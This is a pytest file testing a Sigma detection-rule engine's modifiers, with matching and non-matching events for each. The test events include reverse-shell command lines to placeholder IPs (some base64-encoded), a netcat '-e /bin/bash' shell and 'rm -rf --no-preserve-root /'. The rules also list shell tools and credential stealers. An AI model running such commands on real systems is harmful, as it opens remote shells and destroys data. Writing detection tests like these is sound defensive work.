"""Each Sigma modifier and value type, with an event that matches and one that does not."""

from __future__ import annotations

import base64

import pytest

from backplane.schema import Action


def fires(engine, event) -> bool:
    return bool(engine.match(event))


def test_plain_value_is_case_insensitive_equality(load_rule, ev):
    e = load_rule("sel:\n  Image: '/usr/bin/Bash'\ncondition: sel")
    assert fires(e, ev.exec("/USR/BIN/bash"))
    assert not fires(e, ev.exec("/usr/bin/bash2"))
    assert not fires(e, ev.exec("/bin/usr/bin/bash"))


def test_contains(load_rule, ev):
    e = load_rule("sel:\n  CommandLine|contains: 'DEV/tcp'\ncondition: sel")
    assert fires(e, ev.exec("/bin/bash", "bash -c 'echo >/dev/TCP/1.2.3.4/80'"))
    assert not fires(e, ev.exec("/bin/bash", "bash -c 'echo >/dev/udp/1.2.3.4/80'"))


def test_startswith_and_endswith(load_rule, ev):
    e = load_rule(
        """
        sel:
          Image|startswith: '/TMP/'
          CommandLine|endswith: '--run'
        condition: sel
        """
    )
    assert fires(e, ev.exec("/tmp/x", "/tmp/x --RUN"))
    assert not fires(e, ev.exec("/var/tmp/x", "/var/tmp/x --run"))
    assert not fires(e, ev.exec("/tmp/x", "/tmp/x --run now"))


def test_value_list_is_or_and_mixed_kinds_merge(load_rule, ev):
    e = load_rule(
        """
        sel:
          Image:
            - '/usr/bin/nc'
            - '/opt/*'
            - '*/socat'
            - '*ncat*'
            - '/srv/*/bin/*tool'
            - '/usr/lib/?cat'
        condition: sel
        """
    )
    for image in ("/usr/bin/nc", "/opt/x", "/usr/local/bin/socat", "/x/ncat-7", "/srv/a/bin/mytool",
                  "/usr/lib/zcat"):  # fmt: skip
        assert fires(e, ev.exec(image)), image
    for image in ("/usr/bin/nc2", "/usr/opt/x", "/usr/bin/socat2", "/srv/a/lib/mytool",
                  "/usr/lib/bzcat", "/srv/bin/tool", "/srv/a/bin/tools"):  # fmt: skip
        assert not fires(e, ev.exec(image)), image


def test_wildcards_in_the_middle_keep_order(load_rule, ev):
    e = load_rule("sel:\n  CommandLine: 'python*-c*import*socket*'\ncondition: sel")
    assert fires(e, ev.exec("/usr/bin/python3", "python3 -c 'import os,socket'"))
    assert not fires(e, ev.exec("/usr/bin/python3", "python3 -c 'socket; import os'"))
    assert not fires(e, ev.exec("/usr/bin/python3", "xpython3 -c import socket"))


def test_escaped_wildcard_is_literal(load_rule, ev):
    e = load_rule("sel:\n  CommandLine|contains: 'rm \\*'\ncondition: sel")
    assert fires(e, ev.exec("/bin/rm", "rm * -rf"))
    assert not fires(e, ev.exec("/bin/rm", "rm file -rf"))


def test_question_mark_matches_exactly_one_character(load_rule, ev):
    e = load_rule("sel:\n  Image: '/bin/?sh'\ncondition: sel")
    assert fires(e, ev.exec("/bin/zsh"))
    assert not fires(e, ev.exec("/bin/sh"))
    assert not fires(e, ev.exec("/bin/bash"))


def test_contains_all(load_rule, ev):
    e = load_rule("sel:\n  CommandLine|contains|all: ['-i', '/dev/tcp/']\ncondition: sel")
    assert fires(e, ev.exec("/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"))
    assert not fires(e, ev.exec("/bin/bash", "bash >& /dev/tcp/10.0.0.1/4444 0>&1"))


def test_re_is_case_sensitive_unless_i(load_rule, ev):
    e = load_rule("sel:\n  CommandLine|re: 'nc\\s+-e\\s+/bin/(ba)?sh'\ncondition: sel")
    assert fires(e, ev.exec("/bin/nc", "nc  -e /bin/bash 1.2.3.4 9"))
    assert not fires(e, ev.exec("/bin/nc", "NC -E /bin/bash 1.2.3.4 9"))
    ei = load_rule("sel:\n  CommandLine|re|i: 'nc\\s+-e\\s+/bin/(ba)?sh'\ncondition: sel")
    assert fires(ei, ev.exec("/bin/nc", "NC -E /BIN/SH x"))
    assert not fires(ei, ev.exec("/bin/nc", "nc -e /bin/zsh x"))


def test_re_searches_anywhere_and_honours_anchors(load_rule, ev):
    e = load_rule("sel:\n  CommandLine|re: '^sudo '\ncondition: sel")
    assert fires(e, ev.exec("/usr/bin/sudo", "sudo id"))
    assert not fires(e, ev.exec("/usr/bin/sudo", "echo sudo id"))


def test_cased_modifier(load_rule, ev):
    e = load_rule("sel:\n  CommandLine|cased|contains: 'PATH=/tmp'\ncondition: sel")
    assert fires(e, ev.exec("/usr/bin/env", "env PATH=/tmp:/usr/bin x"))
    assert not fires(e, ev.exec("/usr/bin/env", "env path=/tmp:/usr/bin x"))


@pytest.mark.parametrize(
    ("ip", "hit"),
    [
        ("10.1.2.3", True),
        ("192.168.7.7", True),
        ("::ffff:10.9.9.9", True),  # dual-stack socket reporting an IPv4 peer
        ("11.0.0.1", False),
        ("192.169.0.1", False),
        ("not-an-ip", False),
        ("fe80::1%eth0", True),  # zone id dropped
        ("fd12:3456::1", True),
        ("2001:db8::1", False),
    ],
)
def test_cidr_v4_and_v6(load_rule, ev, ip, hit):
    e = load_rule(
        """
        sel:
          DestinationIp|cidr:
            - '10.0.0.0/8'
            - '192.168.0.0/16'
            - 'fe80::/10'
            - 'fd00::/8'
        condition: sel
        """,
        category="network_connection",
    )
    assert fires(e, ev.net(ip, 443)) is hit


def test_base64(load_rule, ev):
    e = load_rule("sel:\n  CommandLine|base64|contains: 'whoami'\ncondition: sel")
    encoded = base64.b64encode(b"whoami").decode()
    assert fires(e, ev.exec("/bin/sh", f"echo {encoded} | base64 -d"))
    # Base64 is case-sensitive data, but Sigma matching is not: a changed letter still differs.
    assert not fires(e, ev.exec("/bin/sh", "echo d2hvYW1p2 | base64 -d".replace("1p", "Xp")))


@pytest.mark.parametrize("prefix", [b"", b"x", b"xy"])
def test_base64offset_finds_every_alignment(load_rule, ev, prefix):
    e = load_rule("sel:\n  CommandLine|base64offset|contains: '/dev/tcp/'\ncondition: sel")
    blob = base64.b64encode(prefix + b"bash -i >& /dev/tcp/10.0.0.1/9001 0>&1").decode()
    assert fires(e, ev.exec("/bin/sh", f"echo {blob} | base64 -d | sh"))
    other = base64.b64encode(prefix + b"bash -i >& /dev/udp/10.0.0.1/9001 0>&1").decode()
    assert not fires(e, ev.exec("/bin/sh", f"echo {other} | base64 -d | sh"))


def test_windash(load_rule, ev):
    e = load_rule("sel:\n  CommandLine|windash|contains: ' -exec '\ncondition: sel")
    assert fires(e, ev.exec("/usr/bin/find", "find . -exec sh {} ;"))
    assert fires(e, ev.exec("/usr/bin/find", "find . /exec sh {} ;"))
    assert fires(e, ev.exec("/usr/bin/find", "find . \u2013exec sh {} ;"))  # en dash
    assert not fires(e, ev.exec("/usr/bin/find", "find . +exec sh {} ;"))


def test_exists(load_rule, ev):
    e = load_rule("sel:\n  DestinationHostname|exists: true\ncondition: sel", "network_connection")
    assert fires(e, ev.net("1.2.3.4", 80, domain="example.org"))
    assert not fires(e, ev.net("1.2.3.4", 80))
    n = load_rule("sel:\n  DestinationHostname|exists: false\ncondition: sel", "network_connection")
    assert fires(n, ev.net("1.2.3.4", 80))
    assert not fires(n, ev.net("1.2.3.4", 80, domain="example.org"))


def test_null_means_missing(load_rule, ev):
    e = load_rule("sel:\n  ParentCommandLine: null\ncondition: sel")
    orphan = ev.exec("/usr/bin/id")
    del orphan["process"]["parent"]["command_line"]
    assert fires(e, orphan)
    assert not fires(e, ev.exec("/usr/bin/id"))


def test_numbers_and_comparisons(load_rule, ev):
    e = load_rule("sel:\n  DestinationPort: [4444, 1337]\ncondition: sel", "network_connection")
    assert fires(e, ev.net("1.2.3.4", 4444))
    assert not fires(e, ev.net("1.2.3.4", 44444))
    as_text = ev.net("1.2.3.4", 80)
    as_text["destination"]["port"] = "1337"  # a tier that reports ports as text still matches
    assert fires(e, as_text)
    gt = load_rule(
        "sel:\n  DestinationPort|gte: 1024\n  DestinationPort|lt: 2000\ncondition: sel",
        "network_connection",
    )
    assert fires(gt, ev.net("1.2.3.4", 1024))
    assert fires(gt, ev.net("1.2.3.4", 1999))
    assert not fires(gt, ev.net("1.2.3.4", 2000))
    assert not fires(gt, ev.net("1.2.3.4", 80))
    missing = ev.net("1.2.3.4", 1500)
    del missing["destination"]["port"]
    assert not fires(gt, missing)


def test_string_value_matches_numeric_field(load_rule, ev):
    e = load_rule("sel:\n  DestinationPort|startswith: '44'\ncondition: sel", "network_connection")
    assert fires(e, ev.net("1.2.3.4", 4444))
    assert not fires(e, ev.net("1.2.3.4", 8443))


def test_neq(load_rule, ev):
    e = load_rule("sel:\n  Image|endswith: '/bash'\n  User|neq: 'root'\ncondition: sel")
    assert fires(e, ev.exec("/bin/bash", user="alice"))
    assert not fires(e, ev.exec("/bin/bash", user="root"))


def test_fieldref(load_rule, ev):
    e = load_rule("sel:\n  Image|fieldref: ParentImage\ncondition: sel")
    assert fires(e, ev.exec("/usr/bin/bash", parent_image="/usr/bin/bash"))
    assert not fires(e, ev.exec("/usr/bin/ls", parent_image="/usr/bin/bash"))


def test_keywords_search_the_text_fields(load_rule, ev):
    e = load_rule("keywords:\n  - 'mimikatz'\n  - 'LaZagne'\ncondition: keywords")
    assert fires(e, ev.exec("/tmp/x", "/tmp/x --module MIMIKATZ"))
    assert fires(e, ev.exec("/tmp/lazagne.py"))
    assert fires(e, ev.exec("/bin/sh", parent_cmdline="python lazagne.py all"))
    assert not fires(e, ev.exec("/usr/bin/ls", "ls -la"))


def test_initiated_maps_to_direction(load_rule, ev):
    e = load_rule("sel:\n  Initiated: 'true'\ncondition: sel", "network_connection")
    assert fires(e, ev.net("1.2.3.4", 80, action=Action.CONNECT))
    assert not fires(e, ev.net("1.2.3.4", 80, action=Action.ACCEPT))
    f = load_rule("sel:\n  Initiated: false\ncondition: sel", "network_connection")
    assert fires(f, ev.net("1.2.3.4", 80, action=Action.ACCEPT))
    assert not fires(f, ev.net("1.2.3.4", 80, action=Action.CONNECT))


def test_ecs_dotted_paths_and_list_fields(load_rule, ev):
    e = load_rule("sel:\n  process.args: '--no-preserve-root'\ncondition: sel")
    assert fires(e, ev.exec("/bin/rm", "rm -rf --no-preserve-root /"))
    assert not fires(e, ev.exec("/bin/rm", "rm -rf /tmp/x"))


def test_file_rename_source_field(load_rule, ev):
    e = load_rule("sel:\n  SourceFilename|startswith: '/tmp/'\ncondition: sel", "file_rename")
    assert fires(e, ev.file("/usr/local/bin/x", Action.FILE_RENAME, original="/tmp/x"))
    assert not fires(e, ev.file("/usr/local/bin/x", Action.FILE_RENAME, original="/home/a/x"))
    assert not fires(e, ev.file("/usr/local/bin/x", Action.FILE_WRITE, original="/tmp/x"))
